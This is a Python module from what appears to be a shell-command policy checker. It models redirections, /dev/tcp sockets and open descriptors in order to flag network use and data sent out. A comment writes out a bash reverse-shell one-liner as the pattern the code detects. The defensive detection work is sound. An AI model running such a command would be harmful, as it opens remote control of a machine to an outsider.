"""A command with its redirections: files, connections (`/dev/tcp`), here-documents, descriptors that stay open."""

import re
from collections.abc import Callable

from policyloop.decide.expand import single
from policyloop.decide.programs.interpreters import SHELLS
from policyloop.decide.scene import Scene
from policyloop.decide.values import ANYTHING, EMPTY, FETCHED, Value
from policyloop.shell.marks import HOLE, has_glob
from policyloop.shell.tree import Redirect, Simple

SOCKET = re.compile(r"^/dev/(?:tcp|udp)/([^/]+)/([^/]+)$")
_NAMED = re.compile(r"\{(\w+)\}")


def redirected(
    scene: Scene,
    redirects: tuple[Redirect, ...],
    given: Value,
    run_it: Callable[[Value], Value],
    command: Simple | None = None,
) -> Value:
    """Runs a command with its input and outputs where its redirections lead; what is left of its output."""
    lasting = command is not None and command.words[:1] == ("exec",)
    kept = scene.open_files, scene.open_outputs
    if not lasting:
        scene.open_files, scene.open_outputs = dict(kept[0]), dict(kept[1])
    plan = _Plan(scene, given, lasting, command)
    for redirect in redirects:
        plan.take(redirect)
    output = run_it(plan.given)
    for target in plan.outputs:
        written(scene, target, output)
    if not lasting:
        scene.open_files, scene.open_outputs = kept
    return EMPTY if plan.outputs else output


class _Plan:
    def __init__(self, scene: Scene, given: Value, lasting: bool, command: Simple | None) -> None:  # noqa: FBT001
        self.scene, self.given, self.lasting = scene, given, lasting
        self.outputs: list[str] = []
        words = command.words if command is not None else ()
        first = words[0] if words else ""
        self.shell = isinstance(first, str) and first.rsplit("/", 1)[-1] in SHELLS
        name = _NAMED.fullmatch(words[1]) if lasting and len(words) > 1 and isinstance(words[1], str) else None
        self.variable = name[1] if name is not None else ""

    def take(self, redirect: Redirect) -> None:
        """One redirection."""
        operator, target = redirect.operator, single(self.scene, redirect.target)
        if operator == "<<":
            self._reads(redirect.descriptor, target)
        elif operator == "<<<":
            self._reads(redirect.descriptor, Value(tuple(text + "\n" for text in target.texts), target.tags))
        elif operator == "<":
            for text in target.texts:
                self._reads(redirect.descriptor, opened(self.scene, text), text)
        elif operator in {"<&", ">&"}:
            self._duplicates(redirect.descriptor, operator, target)
        elif not operator.endswith("-"):
            for text in target.texts:
                self._writes(redirect.descriptor, text)

    def _reads(self, descriptor: str, held: Value, text: str = "") -> None:
        scene = self.scene
        if self.variable:
            descriptor = self._number()
        if descriptor in {"", "0"}:
            self.given = held
        if descriptor not in {"", "0"} or self.lasting:
            scene.open_files[descriptor or "0"] = held
            if SOCKET.match(text):
                scene.open_outputs[descriptor or "0"] = text

    def _writes(self, descriptor: str, text: str) -> None:
        scene = self.scene
        if self.variable:
            descriptor = self._number()
        if self.lasting or descriptor not in {"", "1"}:
            written(scene, text, ANYTHING)
            scene.open_outputs[descriptor or "1"] = text
            if SOCKET.match(text):
                scene.open_files[descriptor or "1"] = Value((HOLE,), FETCHED)
        else:
            self.outputs.append(text)

    def _duplicates(self, descriptor: str, operator: str, target: Value) -> None:
        scene = self.scene
        for text in target.texts:
            number = text.removesuffix("-")
            if number == "":
                continue
            if number == HOLE or HOLE in number:
                self._any_open(operator)
            elif not number.isdigit():
                self._writes(descriptor, text)
            elif operator == "<&" or descriptor == "0":
                self._same_input(descriptor, number)
            else:
                output = scene.open_outputs.get(number) or (self.outputs[-1] if number == "1" and self.outputs else "")
                if output and descriptor in {"", "1"} and not self.lasting:
                    self.outputs.append(output)
                elif output:
                    scene.open_outputs[descriptor or "1"] = output

    def _same_input(self, descriptor: str, number: str) -> None:
        scene = self.scene
        held = scene.open_files.get(number)
        if number == "1" and any(SOCKET.match(text) for text in self.outputs):
            # `bash >& /dev/tcp/host/port 0>&1`: what the other side says is what the shell runs.
            held = Value((HOLE,), FETCHED)
            if self.shell:
                scene.does("network-shell")
        if held is not None:
            self._reads(descriptor or "0", held)
        output = scene.open_outputs.get(number)
        if output is not None and descriptor:
            scene.open_outputs[descriptor] = output

    def _any_open(self, operator: str) -> None:
        """A descriptor whose number is not known is any of those that are open."""
        scene = self.scene
        scene.unknown("variable-argument")
        if operator == "<&":
            tags = 0
            for held in scene.open_files.values():
                tags |= held.tags
            self.given = Value((HOLE,), tags)
        else:
            self.outputs.extend(scene.open_outputs.values())

    def _number(self) -> str:
        """`exec {name}<file`: the variable holds the number of what is opened."""
        number = str(10 + len(self.scene.open_files) + len(self.scene.open_outputs))
        self.scene.variables[self.variable] = Value((number,))
        return number


def opened(scene: Scene, text: str) -> Value:
    """What is read from a file or a connection."""
    socket = SOCKET.match(text)
    if socket is not None:
        scene.reaches(socket[1], socket[2])
        return Value((HOLE,), FETCHED)
    held = scene.held(text) if HOLE not in text and not has_glob(text) else None
    tags = scene.reads(text)
    return held.tagged(tags) if held is not None else Value((HOLE,), tags)


def written(scene: Scene, text: str, output: Value) -> None:
    """An output goes to a file or a connection."""
    socket = SOCKET.match(text)
    if socket is None:
        scene.writes(text, output)
    else:
        scene.reaches(socket[1], socket[2])
        scene.sends(output.tags)
